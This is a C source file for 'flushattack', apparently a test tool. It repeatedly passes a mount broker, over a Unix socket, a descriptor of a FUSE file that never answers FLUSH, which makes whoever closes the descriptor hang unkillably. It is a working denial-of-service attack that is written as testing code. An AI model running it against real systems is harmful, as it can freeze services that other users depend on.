/*
 * flushattack SOCKET FILE N: sends the broker at SOCKET the descriptor of FILE with N requests a second, in turn
 *
 *   a mount, well-formed but for a second descriptor, which is that of FILE
 *   junk, with the descriptor of FILE
 *
 * FILE is one of the caller's own FUSE filesystem that never answers FLUSH: whoever closes a descriptor of it hangs
 * there and can't be killed (see `silent_at=flush` in stopfs.c). So this program doesn't close it either. Each second
 * it prints how many requests it has sent by then. It goes on until it is killed, and ends when the filesystem does.
 */
#define _GNU_SOURCE

#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

enum { KEPT = 32, MOST_DESCRIPTORS = 2 };

static const char MOUNT[] = "protocol=1\0operation=mount\0mountpoint=/tmp\0options="; /* and a NUL */
static const char JUNK[] = "noise";

union control {
	char buffer[CMSG_SPACE(MOST_DESCRIPTORS * sizeof(int))];
	struct cmsghdr aligned;
};

/* Whether it was sent: it may have been refused before. */
static int say(int connection, const char *text, size_t length, const int *descriptors, size_t number)
{
	union control control = { .buffer = { 0 } };
	struct iovec iov = { .iov_base = (void *)text, .iov_len = length };
	struct msghdr message = {
		.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buffer, .msg_controllen = CMSG_SPACE(number * sizeof(int))
	};
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);

	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(number * sizeof(int));
	memcpy(CMSG_DATA(header), descriptors, number * sizeof(int));
	return sendmsg(connection, &message, MSG_NOSIGNAL | MSG_DONTWAIT) == (ssize_t)length;
}

int main(int argc, char **argv)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int descriptors[MOST_DESCRIPTORS], kept[KEPT] = { 0 };
	struct timespec next;
	long per_second, sent = 0;

	if (argc != 4 || (per_second = atol(argv[3])) < 1 || strlen(argv[1]) >= sizeof(address.sun_path))
		errx(2, "usage: flushattack SOCKET FILE N");
	strcpy(address.sun_path, argv[1]);
	descriptors[0] = open("/tmp", O_PATH | O_CLOEXEC);
	descriptors[1] = open(argv[2], O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	if (descriptors[0] < 0 || descriptors[1] < 0)
		err(1, "/tmp or %s", argv[2]);
	clock_gettime(CLOCK_MONOTONIC, &next);
	for (long turn = 0;; turn++) {
		int *connection = &kept[turn % KEPT];

		if (*connection)
			close(*connection);
		*connection = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		if (*connection < 0)
			err(1, "socket");
		if (connect(*connection, (struct sockaddr *)&address, sizeof(address)) == 0)
			sent += turn % 2 ? say(*connection, JUNK, sizeof(JUNK) - 1, &descriptors[1], 1)
					 : say(*connection, MOUNT, sizeof(MOUNT), descriptors, 2);
		if (turn % per_second == 0) {
			printf("%ld\n", sent);
			fflush(stdout);
		}
		next.tv_nsec += 1000000000L / per_second;
		if (next.tv_nsec >= 1000000000L) {
			next.tv_nsec -= 1000000000L;
			next.tv_sec++;
		}
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
	}
}
